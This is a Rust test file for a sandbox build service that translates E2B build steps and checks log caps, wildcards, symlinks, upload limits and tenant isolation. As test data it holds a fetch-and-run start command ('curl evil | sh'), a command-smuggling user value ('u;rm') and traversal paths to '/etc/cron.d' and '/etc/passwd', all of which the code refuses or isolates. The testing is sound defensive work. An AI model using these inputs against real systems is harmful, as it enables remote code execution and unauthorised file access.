use super::steps::wildcard;
use super::*;

/// A build of `tenant` as a request makes it (no lease, no context).
fn waiting(tenant: &str) -> Build {
    Build {
        tenant: tenant.into(),
        template: "t".into(),
        names: Vec::new(),
        phase: Phase::Waiting,
        logs: Vec::new(),
        dropped_logs: 0,
        log_bytes: 0,
        reason: None,
        uploads: BTreeMap::new(),
        ctx: std::env::temp_dir().join("sandlot-e2b-no-such-context"),
        received: 0,
        lease: None,
        requested: Instant::now(),
        finished: None,
        step_names: Vec::new(),
        current: 0,
        start: StartCmd::default(),
        task: None,
    }
}

#[test]
fn a_builds_log_is_held_at_its_byte_cap_with_one_line_saying_so() {
    let mut b = waiting("a");
    let line = "x".repeat(MAX_LOG_LINE);
    for _ in 0..(MAX_LOG_BYTES / MAX_LOG_LINE) * 3 {
        b.log("info", line.clone(), None);
    }
    let kept: usize = b.logs.iter().map(|l| l.message.len()).sum();
    assert!(kept <= MAX_LOG_BYTES + 100, "{kept}");
    let last = &b.logs.last().unwrap().message;
    assert!(last.contains("later lines are not kept"), "{last}");
    assert_eq!(
        b.logs
            .iter()
            .filter(|l| l.message.contains("not kept"))
            .count(),
        1
    );
    let long = "y".repeat(MAX_LOG_LINE * 4);
    let mut b = waiting("a");
    b.log("info", long, None);
    assert_eq!(b.logs[0].message.len(), MAX_LOG_LINE + " [cut]".len());
}

#[test]
fn one_tenants_finished_builds_never_push_out_anothers() {
    let builds = Builds::default();
    let ended = |tenant: &str, id: String| {
        let mut b = waiting(tenant);
        b.phase = Phase::Ready;
        b.finished = Some(Instant::now());
        builds.lock().insert(id, Arc::new(Mutex::new(b)));
    };
    ended("quiet", "quiet-build".into());
    for i in 0..KEEP_FINISHED * 4 {
        ended("noisy", format!("noisy-{i}"));
    }
    assert!(builds
        .sweep(std::time::Duration::from_secs(3600))
        .is_empty());
    assert!(builds.get("quiet-build").is_some());
    let noisy = builds
        .lock()
        .keys()
        .filter(|k| k.starts_with("noisy"))
        .count();
    assert_eq!(noisy, KEEP_FINISHED);
}

#[tokio::test]
async fn a_build_whose_task_is_gone_is_ended_by_the_sweep_and_a_running_one_is_not() {
    let builds = Builds::default();
    let long_ago = Instant::now() - std::time::Duration::from_secs(10);
    let gone = tokio::spawn(async {});
    let gone_handle = gone.abort_handle();
    gone.await.unwrap();
    let running = tokio::spawn(std::future::pending::<()>());
    for (id, task) in [("gone", gone_handle), ("running", running.abort_handle())] {
        let mut b = waiting("a");
        b.phase = Phase::Building;
        b.requested = long_ago;
        b.task = Some(task);
        builds.lock().insert(id.into(), Arc::new(Mutex::new(b)));
    }
    // The ended build's context is handed back for removal outside the lock.
    let contexts = builds.sweep(std::time::Duration::from_secs(1));
    let gone = builds.get("gone").unwrap();
    let gone = lock(&gone);
    assert_eq!(contexts, vec![gone.ctx.clone()]);
    assert_eq!(gone.phase, Phase::Error);
    assert!(gone.finished.is_some() && gone.reason.is_some());
    assert_eq!(lock(&builds.get("running").unwrap()).phase, Phase::Building);
    running.abort();
}

#[test]
fn a_store_failure_reaches_the_tenant_without_its_host_path() {
    use sandlot_store::StoreError;
    let e = store_refusal(
        "fromImage",
        StoreError::Io {
            op: "open",
            path: "/var/lib/sandlot/images/blobs/x".into(),
            source: std::io::Error::other("no such file"),
        },
    );
    assert!(e.status.is_server_error());
    assert!(!e.message.contains("/var/lib"), "{}", e.message);
    let e = store_refusal("fromImage", StoreError::NotFound("img".into()));
    assert_eq!(e.status, StatusCode::BAD_REQUEST);
    assert!(e.message.starts_with("fromImage: "), "{}", e.message);
}

fn body(steps: Value) -> E2bBuild {
    serde_json::from_value(json!({"fromImage": "e2bdev/base", "steps": steps})).unwrap()
}

const H: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

fn files(_: &str, src: &str) -> Option<Vec<(String, bool)>> {
    match src {
        "dir" => Some(vec![("dir".into(), true)]),
        "missing" => None,
        "none*" => Some(Vec::new()),
        "f/*" => Some(vec![("f/a".into(), false), ("f/b".into(), false)]),
        _ => Some(vec![(src.into(), false)]),
    }
}

fn tr(steps: Value) -> RestResult<Translated> {
    translate(
        &body(steps),
        Some("user".into()),
        "/home/user".into(),
        &files,
        Vec::new(),
    )
}

#[test]
fn e2b_steps_become_native_steps_named_by_their_e2b_step() {
    let t = tr(json!([
        {"type": "RUN", "args": ["echo hi"], "force": false},
        {"type": "COPY", "args": ["hello.txt", "data/", "", ""], "filesHash": H},
        {"type": "WORKDIR", "args": ["app"]},
        {"type": "ENV", "args": ["A", "1", "B", "two words"]},
        {"type": "USER", "args": ["root"]},
        {"type": "RUN", "args": ["apt-get update", "root"], "force": true},
    ]))
    .unwrap();
    assert_eq!(
        t.steps.iter().map(|(_, s)| s.clone()).collect::<Vec<_>>(),
        vec![
            Step::Run("echo hi".into()),
            Step::Copy {
                src: vec![format!("{H}/hello.txt")],
                dest: "data/".into()
            },
            Step::RunAs {
                user: "root".into(),
                command: "chown -R 'user' '/home/user/data/hello.txt'".into()
            },
            Step::Workdir("/home/user/app".into()),
            Step::Env(vec![
                ("A".into(), "1".into()),
                ("B".into(), "two words".into())
            ]),
            Step::User("root".into()),
            Step::RunAs {
                user: "root".into(),
                command: "apt-get update".into()
            },
        ]
    );
    assert_eq!(t.step_names, ["1", "2", "2", "3", "4", "5", "6"]);
    assert_eq!(t.steps[0].0, "step 1");
    assert_eq!(t.fresh_from, Some(6));
}

#[test]
fn a_copy_as_root_with_a_mode_sets_only_the_mode() {
    let t = translate(
        &body(json!([{"type": "COPY", "args": ["dir", "/opt/app", "", "0755"], "filesHash": H}])),
        None,
        "/".into(),
        &files,
        Vec::new(),
    )
    .unwrap();
    assert_eq!(
        t.steps[1].1,
        Step::RunAs {
            user: "root".into(),
            command: "chmod -R 0755 '/opt/app'".into()
        }
    );
}

#[test]
fn bad_steps_are_refused_naming_the_step_and_the_problem() {
    let e = |steps: Value| tr(steps).unwrap_err().message;
    assert!(e(json!([{"type": "EXPOSE", "args": ["80"]}]))
        .contains("steps[0].type: unknown step type \"EXPOSE\""));
    let m = e(
        json!([{"type": "RUN", "args": ["true"]}, {"type": "COPY", "args": ["a", "../../etc/cron.d/x"], "filesHash": H}]),
    );
    assert!(m.contains("steps[1]") && m.contains("'..'"), "{m}");
    assert!(
        e(json!([{"type": "COPY", "args": ["../x", "/x"], "filesHash": H}]))
            .contains("copy source")
    );
    assert!(
        e(json!([{"type": "COPY", "args": ["/etc/passwd", "/x"], "filesHash": H}]))
            .contains("copy source")
    );
    assert!(
        e(json!([{"type": "COPY", "args": ["[ab].txt", "/x"], "filesHash": H}]))
            .contains("wildcards")
    );
    assert!(
        e(json!([{"type": "COPY", "args": ["none*", "/x"], "filesHash": H}]))
            .contains("matches no uploaded file")
    );
    assert!(e(json!([{"type": "COPY", "args": ["a", "/x"]}])).contains("filesHash"));
    assert!(
        e(json!([{"type": "COPY", "args": ["missing", "/x"], "filesHash": H}]))
            .contains("not uploaded")
    );
    assert!(
        e(json!([{"type": "COPY", "args": ["a", "/x", "u;rm", ""], "filesHash": H}]))
            .contains("copy user")
    );
    assert!(
        e(json!([{"type": "COPY", "args": ["a", "/x", "", "9"], "filesHash": H}]))
            .contains("octal")
    );
    assert!(e(json!([{"type": "ENV", "args": ["A"]}])).contains("pairs"));
    assert!(e(json!([{"type": "RUN", "args": [" "]}])).contains("command"));
    assert!(e(json!([{"type": "USER", "args": ["a b"]}])).contains("USER"));
}

#[test]
fn a_wildcard_copy_takes_every_match_into_the_destination() {
    let t = tr(json!([{"type": "COPY", "args": ["f/*", "out"], "filesHash": H}])).unwrap();
    assert_eq!(
        t.steps[0].1,
        Step::Copy {
            src: vec![format!("{H}/f/a"), format!("{H}/f/b")],
            dest: "out".into()
        }
    );
    assert_eq!(
        t.steps[1].1,
        Step::RunAs {
            user: "root".into(),
            command: "chown -R 'user' '/home/user/out/a' '/home/user/out/b'".into()
        }
    );
    assert!(
        wildcard(b"*.txt", b"a.txt") && wildcard(b"a?c*", b"abcde") && !wildcard(b"*.txt", b"a.md")
    );
}

#[test]
fn wildcards_match_any_run_or_one_byte_and_the_rest_literally() {
    let yes = [
        ("*", ""),
        ("*", "abc"),
        ("a*", "a"),
        ("*c", "abc"),
        ("a*c", "abbbc"),
        ("?", "x"),
        ("a?c", "abc"),
        ("*.tar.gz", "x.tar.gz"),
        ("a*b*c", "aXbYbZc"),
        ("**", "ab"),
        ("name.txt", "name.txt"),
    ];
    for (p, n) in yes {
        assert!(wildcard(p.as_bytes(), n.as_bytes()), "{p} {n}");
    }
    let no = [
        ("?", ""),
        ("a?c", "ac"),
        ("*.txt", "a.md"),
        ("a*c", "abcd"),
        ("*c", "ab"),
        ("name.txt", "name.txu"),
        ("name.txt", "name.txt2"),
        ("abc", "ab"),
    ];
    for (p, n) in no {
        assert!(!wildcard(p.as_bytes(), n.as_bytes()), "{p} {n}");
    }
}

#[test]
fn a_copy_source_of_half_a_million_stars_is_answered() {
    let stars = vec![b'*'; 500_000];
    assert!(wildcard(&stars, b"name"));
    assert!(!wildcard(&[&stars[..], b"x"].concat(), b"name"));
}

#[test]
fn a_pattern_that_backtracks_at_every_star_is_answered() {
    let mut pattern = b"*a".repeat(20);
    pattern.push(b'b');
    let mut name = vec![b'a'; 255];
    assert!(!wildcard(&pattern, &name));
    name[254] = b'b';
    assert!(wildcard(&pattern, &name));
}

#[test]
fn a_copy_source_past_its_limits_is_refused_naming_the_limit() {
    let e = |src: String| {
        tr(json!([{"type": "COPY", "args": [src, "/x"], "filesHash": H}]))
            .unwrap_err()
            .message
    };
    let m = e("*".repeat(500_000));
    assert!(m.contains("more than 4096"), "{}", &m[..m.len().min(200)]);
    assert!(m.len() < 200, "the source is not echoed");
    assert!(e(format!("d/{}", "a".repeat(256))).contains("longer than 255 bytes"));
    let many = |_: &str, _: &str| {
        Some(
            (0..=MAX_COPY_MATCHES)
                .map(|i| (format!("f/{i}"), false))
                .collect(),
        )
    };
    let m = translate(
        &body(json!([{"type": "COPY", "args": ["f/*", "/x"], "filesHash": H}])),
        None,
        "/".into(),
        &many,
        Vec::new(),
    )
    .unwrap_err()
    .message;
    assert!(m.contains("matches more than 10000 uploaded paths"), "{m}");
}

#[test]
fn a_wildcard_listing_stops_past_the_match_limit() {
    let dir = std::env::temp_dir().join(format!("sandlot-e2b-many-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for i in 0..=MAX_COPY_MATCHES {
        std::fs::write(dir.join(i.to_string()), "").unwrap();
    }
    assert_eq!(uploaded(&dir, "*").unwrap().len(), MAX_COPY_MATCHES + 1);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_copy_source_through_a_link_answers_the_same_whether_the_host_path_exists() {
    let dir = std::env::temp_dir().join(format!("sandlot-e2b-oracle-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let (root, host) = (dir.join("up"), dir.join("host"));
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(host.join("sub")).unwrap();
    std::fs::write(host.join("sub/present"), "x").unwrap();
    std::os::unix::fs::symlink(&host, root.join("l")).unwrap();
    let present = uploaded(&root, "l/sub/present").unwrap();
    let missing = uploaded(&root, "l/sub/missing").unwrap();
    assert_eq!(present, missing);
    assert!(present.is_empty());
    assert!(uploaded(&root, "l/sub").unwrap().is_empty());
    // The link itself is an uploaded file.
    assert_eq!(uploaded(&root, "l").unwrap(), [("l".to_string(), false)]);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn wildcards_never_list_a_directory_through_a_link() {
    let dir = std::env::temp_dir().join(format!("sandlot-e2b-glob-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let (root, host) = (dir.join("up"), dir.join("host"));
    std::fs::create_dir_all(root.join("f")).unwrap();
    std::fs::create_dir_all(&host).unwrap();
    std::fs::write(host.join("secret-name"), "x").unwrap();
    std::fs::write(root.join("f/a.txt"), "a").unwrap();
    std::fs::write(root.join("f/.hidden"), "h").unwrap();
    std::os::unix::fs::symlink(&host, root.join("l")).unwrap();
    assert_eq!(
        uploaded(&root, "f/*").unwrap(),
        [("f/a.txt".to_string(), false)]
    );
    assert!(uploaded(&root, "l/*").unwrap().is_empty());
    assert_eq!(
        uploaded(&root, "*").unwrap(),
        [("f".to_string(), true), ("l".to_string(), false)]
    );
    assert!(uploaded(&dir.join("nothing"), "f").is_none());
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn template_names_carry_their_tags() {
    let (t, n) = template_names("my-env", &[]).unwrap();
    assert_eq!(t, "my-env");
    assert_eq!(
        n.iter().map(ToString::to_string).collect::<Vec<_>>(),
        ["my-env:latest"]
    );
    let (_, n) = template_names("my-env:v1", &["stable".into()]).unwrap();
    assert_eq!(
        n.iter().map(ToString::to_string).collect::<Vec<_>>(),
        ["my-env:v1", "my-env:stable"]
    );
    assert!(template_names("Bad Name", &[])
        .unwrap_err()
        .message
        .starts_with("name:"));
    assert!(template_names("ok", &["no way".into()])
        .unwrap_err()
        .message
        .starts_with("tags[0]"));
}

#[test]
fn an_upload_that_inflates_past_the_limit_is_cut() {
    let data = vec![0u8; 10_000];
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut gz, &data).unwrap();
    let packed = gz.finish().unwrap();
    let mut r = Capped {
        inner: flate2::read::GzDecoder::new(&packed[..]),
        left: 4096,
        limit: sandlot_store::SizeLimit {
            bytes: 4096,
            name: "the limit".into(),
        },
    };
    let e = std::io::copy(&mut r, &mut std::io::sink()).unwrap_err();
    assert!(
        e.to_string().contains("inflates to more than the limit"),
        "{e}"
    );
}

#[test]
fn a_templates_start_commands_belong_to_the_tenant_that_built_it() {
    // A build with no steps yields its base image, which other tenants use too:
    // one tenant's start command must never start in another's sandboxes.
    let path = std::env::temp_dir().join(format!("sandlot-start-cmd-test-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&path);
    std::fs::create_dir_all(&path).unwrap();
    struct Dir(std::path::PathBuf);
    impl Drop for Dir {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
    impl Dir {
        fn path(&self) -> &std::path::Path {
            &self.0
        }
    }
    let dir = Dir(path);
    let img: sandlot_store::Digest = format!("sha256:{}", "ab".repeat(32)).parse().unwrap();
    let image = img.to_string();
    let cmd = |s: &str| StartCmd {
        start: Some(s.into()),
        ready: None,
    };
    save_start(dir.path(), "bob", &img, &cmd("curl evil | sh")).unwrap();
    assert_eq!(read_start(dir.path(), "alice", &image), None);
    assert_eq!(
        read_start(dir.path(), "bob", &image),
        Some(cmd("curl evil | sh"))
    );
    // Tenants whose names a directory mapping could merge stay apart.
    save_start(dir.path(), ".", &img, &cmd("dot")).unwrap();
    assert_eq!(read_start(dir.path(), "_", &image), None);
    assert_eq!(read_start(dir.path(), "..", &image), None);
    assert_eq!(read_start(dir.path(), ".", &image), Some(cmd("dot")));
    // A tenant's build without start commands removes its own, no one else's.
    save_start(dir.path(), "alice", &img, &cmd("mine")).unwrap();
    save_start(dir.path(), "alice", &img, &StartCmd::default()).unwrap();
    assert_eq!(read_start(dir.path(), "alice", &image), None);
    assert_eq!(
        read_start(dir.path(), "bob", &image),
        Some(cmd("curl evil | sh"))
    );
}
